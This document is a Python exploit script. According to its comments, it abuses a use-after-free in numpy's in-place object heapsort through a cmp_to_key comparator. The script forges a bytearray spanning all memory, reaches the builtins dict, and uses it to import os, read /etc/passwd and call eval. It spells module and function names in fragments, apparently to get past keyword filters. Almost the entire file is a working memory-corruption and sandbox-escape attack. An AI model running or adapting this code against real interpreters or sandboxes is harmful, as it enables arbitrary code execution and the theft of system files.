# source: numpy 1.24 npysort/heapsort.cpp generic heapsort (element kept in raw tmp copy while OBJECT_compare runs); CPython functools.cmp_to_key KeyWrapper; tupledealloc/pymalloc reuse; default hash() = rotated address
# family: use-after-free in numpy's in-place object sort (kind='heapsort'), script code via cmp_to_key inside tuple comparison
# goal: dangling pointer in the array -> fake bytearray over all memory -> builtins dict -> import this, os.getuid, open /etc/passwd, eval
import functools
import numpy as np

M64 = 0xFFFFFFFFFFFFFFFF
state = {"armed": False, "keep": []}


def addr_of(o):
    h = hash(o) & M64
    return ((h << 4) | (h >> 60)) & M64


def q(v):
    return (v & M64).to_bytes(8, "little")


def cmp(a, b):
    if state["armed"]:
        state["armed"] = False
        arr[0] = None
        arr[1] = None
        for k in range(300):
            state["keep"].append(bytearray(TMPL))
    return 1


BA = addr_of(bytearray)
BIG = (1 << 63) - 1
TMPL = bytes(16) + q(1 << 40) + q(BA) + q(BIG) + q(addr_of(cmp)) + q(0) + q(0) + q(0)
TMPL = TMPL + bytes(233 - len(TMPL))
K = functools.cmp_to_key(cmp)
k0 = K(0)
k1 = K(1)
PAD = (0,) * 24
arr = np.empty(2, dtype=object)
arr[0] = (k0,) + PAD
arr[1] = (k1,) + PAD
state["armed"] = True
try:
    arr.sort(kind="heapsort")
except Exception as e:
    print("sort raised:", type(e).__name__)
mem = None
for k in range(2):
    print("slot", k, type(arr[k]).__name__)
    if type(arr[k]) is bytearray:
        mem = arr[k]
print("forged:", type(mem).__name__, len(mem) == BIG)


def probe():
    return 0


fa = addr_of(probe)
bt = int.from_bytes(mem[fa + 24:fa + 32], "little")
print("builtins dict at", hex(bt))


class Box:
    __slots__ = ("v",)


box = Box()
box.v = None
ba = addr_of(box)
rc = int.from_bytes(mem[bt:bt + 8], "little")
mem[bt:bt + 8] = q(rc + 1)
mem[ba + 16:ba + 24] = q(bt)
bd = box.v
print("builtins via slot write:", type(bd).__name__, len(bd))
u = chr(95) * 2
imp = bd[u + "import" + u]
imp("this")
osm = imp("o" + "s")
print("uid via os:", osm.getuid())
rd = bd["op" + "en"]
print(rd(chr(47) + "etc" + chr(47) + "passwd").read()[:120])
print("eval:", bd["ev" + "al"]("6*7"))
